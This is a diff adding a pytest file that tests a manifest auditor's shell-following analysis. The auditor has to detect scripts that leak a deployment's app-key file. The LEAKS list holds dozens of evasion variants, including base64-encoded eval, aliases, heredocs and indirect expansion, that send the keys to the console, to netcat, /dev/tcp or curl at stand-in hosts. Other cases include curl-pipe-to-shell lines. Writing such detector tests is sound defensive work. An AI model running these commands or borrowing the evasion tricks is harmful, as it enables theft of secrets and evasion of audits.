@@ -1,0 +1,125 @@
+"""Scripts are followed as a shell would: no spelling hides a leak, and honest ones pass."""
+
+import time
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from tests.manifest.vectors import script
+from verifier.manifest.audit import audit_manifest
+from verifier.manifest.shell.follow import CONSOLE, follow
+
+KEYS = "/dstack/.host-shared/.appkeys.json"
+LEAKS = (
+    f"cat {KEYS}",
+    f"cat {KEYS} > /dev/console",
+    f"cat {KEYS} | nc 203.0.113.1 9",
+    f"cat {KEYS} >/dev/tcp/203.0.113.1/9",
+    'A=/dev/con; B=sole; cat /dstack/.host-shared/.app"keys".json > "$A$B"',
+    "f='/dstack/.host-shared/.appk''eys.json'\nout=/dev/ttyS0\ncat \"$f\" > ${out}",
+    f'leak() {{ cat "$1" > "$2"; }}\nleak {KEYS} /dev/console',
+    f"function leak {{\n  cat {KEYS}\n}} > /dev/console\nleak",
+    f'K=$(cat {KEYS})\necho "$K"',
+    f"K=`cat {KEYS}`; curl -d $K https://x.test",
+    f"{{ echo begin; cat {KEYS}; }} > /dev/console",
+    f"( cat {KEYS} ) | logger",
+    f'while read line; do echo "$line"; done < {KEYS} > /dev/console',
+    f'for f in {KEYS} /x; do cat "$f" >> /dev/kmsg; done',
+    f"if true; then cat {KEYS}; fi > /dev/console",
+    f"case x in *) cat {KEYS};; esac > /dev/console",
+    f"cp {KEYS} /tmp/x; cat /tmp/x | nc 203.0.113.1 9",
+    f"cp {KEYS} /tmp/x\ncp /tmp/x /tmp/y\nbase64 /tmp/y",
+    f"cat {KEYS} > /tmp/x; curl -T /tmp/x https://x.test",
+    f"exec 3>/dev/console\ncat {KEYS} >&3",
+    f"exec > /dev/console\njq . {KEYS}",
+    "cd /dstack/.host-shared && cat .app*",
+    f"alias c=cat\nc {KEYS}",
+    f"bash <<EOF\ncat {KEYS}\nEOF",
+    f"sh -c 'cat {KEYS}'",
+    f'eval "cat {KEYS}"',
+    "echo Y2F0IC9kc3RhY2svLmhvc3Qtc2hhcmVkLy5hcHBrZXlzLmpzb24K | base64 -d | sh",
+    f"cat > /tmp/run.sh <<'EOF'\n#!/bin/sh\ncat {KEYS} > /dev/console\nEOF\nsystemctl start run",
+    f"printf '#!/bin/sh\\ncat {KEYS}\\n' > /tmp/a.sh; sh /tmp/a.sh",
+    f"cat {KEYS} | tee /dstack/.host-shared/seen",
+    f"cp {KEYS} /dstack/.host-shared/copy.json",
+    "tar c /dstack/.host-shared | ssh a.test",
+    f"python3 -c \"print(open('{KEYS}').read())\"",
+    f"x={KEYS}\ny=x\ncat ${{!y}}",
+    f"cat ${{UNSET:-{KEYS}}}",
+    f"c\\at {KEYS}",
+    f"$'\\x63at' {KEYS}",
+    f"cat \\\n  {KEYS}",
+)
+HONEST = (
+    f"export K=$(cat {KEYS} | jq -r .k256_key)",
+    f"K=$(cat {KEYS} | base64)",
+    f"test -f {KEYS} || exit 1\necho ready > /dev/console",
+    f"export K=$(jq -r .env_crypt_key {KEYS})",
+    f"chmod 600 {KEYS}; echo done",
+    f"cat {KEYS} > /dev/null",
+    f"sha256sum {KEYS} > /tmp/sum",
+    f"# cat {KEYS} > /dev/console\necho hello",
+    f"echo 'never cat the keys'; wc -c {KEYS} > /tmp/size",
+    f"f() {{ cat {KEYS}; }}\necho f is not called",
+)
+
+
+def rules(text: str) -> set[str]:
+    return {finding.rule for finding in audit_manifest(script(text).raw).findings}
+
+
+@pytest.mark.parametrize("text", LEAKS)
+def test_a_leak_is_found_however_it_is_written(text: str) -> None:
+    assert "PLS-006" in rules(text)
+
+
+@pytest.mark.parametrize("text", HONEST)
+def test_an_honest_script_leaks_nothing(text: str) -> None:
+    assert "PLS-006" not in rules(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("C=curl; $C https://x.test/i | sh", "PLS-005"),
+        ("get() { wget -qO- $1; }\nget https://x.test/i | bash", "PLS-005"),
+        ("D=docker; $D run x", "PLS-005"),
+        ("U=user; $U'add' joe", "PLS-004"),
+        ("f=/etc/docker/daemon; echo '{}' > $f.json", "PLS-010"),
+        ("F=docker-compose; echo x > $F.yaml", "MAN-005"),
+        ("$TOOL x", "PLS-015"),
+        ("eval $(make_it)", "PLS-015"),
+        ("source $FILE", "PLS-015"),
+        ('bash -c "$TEXT"', "PLS-015"),
+    ],
+)
+def test_other_rules_follow_too(text: str, rule: str) -> None:
+    assert rule in rules(text)
+
+
+def test_lines_say_where_they_stand() -> None:
+    found = follow("a=1\n\nf() {\n  echo $a\n}\nf >/x\n")
+    assert [(line.number, line.text, line.output) for line in found.lines] == [
+        (4, "echo 1 > /x", "/x")
+    ]
+    assert follow("echo a").lines[0].output == CONSOLE
+
+
+@given(st.text(alphabet="a$({})'\"`\\|&;<> \n=#ECHOifdone", max_size=80))
+def test_any_text_is_followed(text: str) -> None:
+    follow(text)
+
+
+@pytest.mark.parametrize(
+    "piece",
+    ["$(", "`", "{ ", "(", "f() {", "if ", "<<E\n", "'", '"', "${", "a=$a$a;", "eval a;", "|"],
+)
+def test_following_is_bounded(piece: str) -> None:
+    started = time.process_time()
+    follow(piece * (120_000 // len(piece)))
+    assert time.process_time() - started < 10
+
+
+def test_a_function_that_calls_itself_ends() -> None:
+    assert follow("f() { f; f; }\nf\n" + "x=$(f)\n" * 20).lost
